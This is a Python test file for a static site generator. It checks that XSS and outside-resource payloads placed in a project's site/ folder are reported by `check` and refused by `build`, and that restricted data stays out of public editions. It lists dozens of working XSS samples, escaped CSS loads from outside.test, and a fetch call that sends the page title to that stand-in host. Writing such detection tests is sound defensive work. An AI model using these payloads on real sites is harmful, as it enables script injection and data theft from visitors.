"""The hand-written files of site/ under the second audit's payloads: `check` reports each, `build` refuses.

Requirement (issue 24, High 2-3 and Medium 5): every file copied from site/ is read by the same HTML5 and CSS
aware scanner as the built pages, or refused by its type; a file's name cannot break out of the attribute it is
written into; `check` reports what `build` refuses, with the same code. Each payload below is one file of one
project; one `check` run must name every one of them, and `build` must refuse the project as a whole. The
files that pass (a plain page, a picture, a style sheet with local images) are built and opened in Chromium
by tests/test_xss.py's machinery elsewhere; here the build of a clean project shows they are published.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from readiness.safety import scan_css, scan_html, scan_markdown, scan_svg
from tests.conftest import run
from tests.test_site import small_project

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 24

#: (file under site/, content, code check must report). Every payload was seen to pass `check` and `build`
#: before this change, or belongs to a class that did.
PAYLOADS: list[tuple[str, str | bytes, str]] = [
    # Markdown: links to script in the forms Markdown accepts, and markup html.parser read otherwise
    ("md-entity.md", "# A\n\n[x](java&#115;cript:alert(1))\n", "M002"),
    ("md-reference-angle.md", "# A\n\n[x][r]\n\n[r]: <javascript:alert(1)>\n", "M002"),
    ("md-angle-title.md", '# A\n\n[x](<javascript:alert(1)> "t")\n', "M002"),
    ("md-colon-entity.md", "# A\n\n[x](javascript&colon;alert(1))\n", "M002"),
    ("md-tab-entity.md", '# A\n\n<a href="jav&#x09;ascript:alert(1)">x</a>\n', "M002"),
    ("md-in-html.md", '# A\n\n<div markdown="1">\n[x](javascript:alert(1))\n</div>\n', "M002"),
    ("md-svg-style.md", "# A\n\n<svg><style><img src=x onerror=alert(1)></style></svg>\n", "M002"),
    ("md-noscript.md", '# A\n\n<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n', "M002"),
    ("md-comment.md", "# A\n\n<!--><img src=x onerror=alert(1)>-->\n", "M002"),
    ("md-cdata.md", "# A\n\n<![CDATA[ x ><img src=x onerror=alert(1)> ]]>\n", "M002"),
    ("md-iframe-data.md", '# A\n\n<iframe src="data:image/svg+xml,<svg onload=alert(1)>"></iframe>\n', "M002"),
    # HTML pages
    ("object-data.html", '<object data="data:image/svg+xml,<svg onload=alert(1)>"></object>\n', "M002"),
    ("style-escape.html", '<p style="background:\\75 rl(https://outside.test/a.png)">x</p>\n', "M002"),
    ("srcdoc.html", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>\n', "M002"),
    ("math-link.html", '<math><a xlink:href="javascript:alert(1)">x</a></math>\n', "M002"),
    ("formaction.html", '<form><button formaction="javascript:alert(1)">x</button></form>\n', "M002"),
    ("template.html", "<template><img src=x onerror=alert(1)></template>\n", "M002"),
    ("noscript-outside.html", '<noscript><img src="https://outside.test/pixel.png"></noscript>\n', "M002"),
    # style sheets
    ("import-escaped.css", '@import "\\68ttps://outside.test/x.css";\n', "M002"),
    ("image-set.css", "p { background: image-set('https://outside.test/c.png' 1x); }\n", "M002"),
    ("font-escaped.css", "@font-face { font-family: x; src: url(\\68ttps://outside.test/f.woff); }\n", "M002"),
    ("protocol-relative.css", 'p { background: url( "//outside.test/p.png" ); }\n', "M002"),
    ("behavior.css", "p { behavior: url(x.htc); }\n", "M002"),
    # drawings, read by a browser as XML
    (
        "entity.svg",
        '<!DOCTYPE svg [<!ENTITY x "javascript:alert(1)">]><svg><a href="&x;"><text>x</text></a></svg>',
        "M002",
    ),
    (
        "stylesheet-pi.svg",
        '<?xml-stylesheet href="https://outside.test/s.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        "M002",
    ),
    ("prefixed-script.svg", '<svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>', "M002"),
    # types the site does not publish, pictures that are not, and names that break out of an attribute
    ("page.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', "M003"),
    ("feed.xml", "<feed><script>alert(1)</script></feed>", "M003"),
    ("tracker.js", 'fetch("https://outside.test/?" + document.title)', "M003"),
    ("module.mjs", "import 'https://outside.test/x.js'", "M003"),
    ("logo.png", "<html><script>alert(1)</script></html>", "M003"),
    ('x"><svg><style><img src=x onerror=alert(1)>.png', PNG, "M003"),
    ("a&b.png", PNG, "M003"),
]


@pytest.fixture(scope="module")
def checked(tmp_path_factory) -> tuple[Path, list[dict]]:
    root = small_project(tmp_path_factory.mktemp("site-files"))
    site = root / "site"
    site.mkdir()
    for name, content, _ in PAYLOADS:
        (site / name).write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    result = run("check", "-p", str(root), "--format", "json")
    assert result.exit_code == 1, result.output
    return root, json.loads(result.output)["diagnostics"]


@pytest.mark.parametrize("name,content,code", PAYLOADS, ids=[p[0][:30] for p in PAYLOADS])
def test_check_reports_every_payload_of_site(checked, name, content, code):
    _, found = checked
    assert [d for d in found if d["file"] == f"site/{name}" and d["code"] == code], (
        f"site/{name} not reported as {code}; got {[(d['file'], d['code']) for d in found]}"
    )


def test_build_refuses_what_check_reports_with_the_same_codes(checked, tmp_path):
    root, _ = checked
    result = run("build", "-p", str(root), "--out", str(tmp_path / "site"))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "M002" in result.output and "M003" in result.output
    assert not (tmp_path / "site").exists()


def test_a_clean_site_folder_is_published(tmp_path):
    root = small_project(tmp_path)
    site = root / "site"
    (site / "images").mkdir(parents=True)
    (site / "images" / "Carte de Lomara.png").write_bytes(PNG)
    (site / ".gitkeep").write_text("", encoding="utf-8")  # hidden: neither checked nor published
    (site / "about.md").write_text(
        "# About\n\n![Map](images/Carte de Lomara.png)\n\n[The register](https://example.org/register) & more.\n",
        encoding="utf-8",
    )
    (site / "extra.css").write_text(".md-header { background: url(images/Carte%20de%20Lomara.png); }\n")
    out = tmp_path / "out"
    result = run("build", "-p", str(root), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert (out / "pages" / "images" / "Carte de Lomara.png").read_bytes() == PNG
    assert not (out / "pages" / ".gitkeep").exists()
    assert 'href="https://example.org/register"' in (out / "pages" / "about.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("name,content,code", [p for p in PAYLOADS if p[2] == "M002"], ids=lambda v: str(v)[:30])
def test_the_scanner_alone_finds_each_page_payload(name, content, code):
    """The scanner each kind of file goes through finds its payload without the rest of `check`."""
    text = content if isinstance(content, str) else content.decode()
    suffix = Path(name).suffix
    scan = {".md": scan_markdown, ".html": lambda t: scan_html(t, theme=False), ".css": scan_css, ".svg": scan_svg}
    assert scan[suffix](text), f"{name}: nothing found in {text!r}"


def test_a_public_edition_never_names_a_restricted_indicator_in_a_decision_or_benchmark():
    """The second audit found a restricted indicator's id published through the reversion triggers of public
    decisions and the benchmarks measured by it: the public project drops those mentions (and counts them
    among what was left out), and the final guard still looks for the id in every page and document."""
    import dataclasses

    from readiness.project import load_project
    from readiness.report import public_project, restricted_texts
    from tests.conftest import REPO

    project, _ = load_project(REPO)
    named = next(t.indicator for d in project.decisions.values() for t in d.triggers if t.indicator is not None)
    assert project.framework is not None
    assert any(named in b.indicators for b in project.framework.benchmarks), "the example measures it by a benchmark"
    indicators = dict(project.indicators)
    indicators[named] = indicators[named].model_copy(update={"restricted": True})
    project = dataclasses.replace(project, indicators=indicators)
    public, left = public_project(project)
    assert all(t.indicator != named for d in public.decisions.values() for t in d.triggers)
    assert public.framework is not None
    assert all(named not in b.indicators for b in public.framework.benchmarks)
    assert left.references >= 2
    assert named in [r.text for r in restricted_texts(project, public)]


def test_the_public_map_has_no_hole_of_a_restricted_regions_shape(tmp_path):
    """Issue 24 (7): the public map left a hole with the exact outline of a restricted region. It is drawn like
    the others, without a name, a level or a link."""
    import re

    from tests.conftest import indicator, observation, project_files, write_project

    regions = [
        {"id": "north", "name": "North", "tier": "urban", "population": 1000, "geometry": "north"},
        {
            "id": "south",
            "name": "Secret South",
            "tier": "urban",
            "population": 900,
            "geometry": "south",
            "restricted": True,
        },
    ]
    files = project_files(
        {
            "r1/north": {"A1": observation(85), "B1": observation(60)},
            "r1/south": {"A1": observation(40), "B1": observation(30)},
        },
        indicators=[indicator("A1"), indicator("B1", "B")],
        regions=regions,
    )

    def square(x: float) -> list[list[float]]:
        return [[x, 0.0], [x + 1, 0.0], [x + 1, 1.0], [x, 1.0], [x, 0.0]]

    files["assessments/regions.geojson"] = json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {
                    "type": "Feature",
                    "id": k,
                    "properties": {"id": k},
                    "geometry": {"type": "Polygon", "coordinates": [square(x)]},
                }
                for k, x in (("north", 0.0), ("south", 1.0))
            ],
        }
    )
    root = write_project(tmp_path / "p", files)
    shapes = {}
    for audience in ("internal", "public"):
        out = tmp_path / audience
        result = run("build", "-p", str(root), "--out", str(out), "--audience", audience)
        assert result.exit_code == 0, result.output
        page = (out / "index.html").read_text(encoding="utf-8")
        svg = page[page.index('id="map"') :]
        svg = svg[: svg.index("</svg>")]
        shapes[audience] = sorted(re.findall(r'<path d="([^"]+)"', svg))
        if audience == "public":
            assert "Secret South" not in page and "regions/south" not in svg
            assert "Not shown in this edition" in svg
    assert shapes["public"] == shapes["internal"] and len(shapes["public"]) == 2


def test_the_tools_own_rule_examples_do_not_stop_a_public_build(tmp_path):
    """The rule reference quotes example ids (HR-01) in every project's site; a project whose restricted
    indicator has that id is not leaking it through the tool's own examples (the guard stopped such builds),
    while the id is still looked for everywhere else."""
    from tests.conftest import indicator, observation, project_files, write_project

    files = project_files(
        {"r1/north": {"A1": observation(85), "HR-01": observation(60)}},
        indicators=[indicator("A1"), indicator("HR-01", "B", restricted=True)],
    )
    root = write_project(tmp_path / "p", files)
    out = tmp_path / "public"
    result = run("build", "-p", str(root), "--out", str(out), "--audience", "public")
    assert result.exit_code == 0, result.output
    assert "HR-01" in (out / "rules.html").read_text(encoding="utf-8")
    assert "HR-01" not in (out / "regions" / "north.html").read_text(encoding="utf-8")
    region = root / "assessments" / "r1" / "north.yaml"
    region.write_text(region.read_text(encoding="utf-8") + "narrative: HR-01 was not collected.\n", "utf-8")
    leaked = run("build", "-p", str(root), "--out", str(out), "--audience", "public")
    assert leaked.exit_code == 1 and "restricted indicator HR-01" in leaked.output, leaked.output


def test_a_built_site_is_verified_alike_in_one_process_and_in_several(tmp_path):
    """`readiness build` reads the built files in forked workers; the refusal is the one a single process gives:
    the first file, in the order of the paths, that may not be published."""
    from readiness.site import BuildError, verify

    site = tmp_path / "site"
    site.mkdir()
    for i in range(120):
        (site / f"page-{i:03d}.html").write_text(f"<!doctype html><p style='width: {i}%'>{i}</p>", encoding="utf-8")
    verify(site, None, workers=1)
    verify(site, None, workers=2)  # a clean site passes both ways

    (site / "page-050.html").write_text("<p>a</p><img src=x onerror=alert(1)>", encoding="utf-8")
    (site / "page-090.html").write_text("<p style='background: url(https://example.org/x.png)'>b</p>")
    (site / "zz.bin").write_bytes(b"\0")
    said = []
    for workers in (1, 2):
        with pytest.raises(BuildError) as refused:
            verify(site, None, workers=workers)
        said.append(str(refused.value))
    assert said[0] == said[1]
    assert said[0].startswith("page-050.html, line 1: <img> has an event handler (onerror)")

    (site / "page-050.html").write_text("<p>fixed</p>", encoding="utf-8")
    for workers in (1, 2):
        with pytest.raises(BuildError, match=r"page-090\.html, line 1: <p style>: CSS loads"):
            verify(site, None, workers=workers)
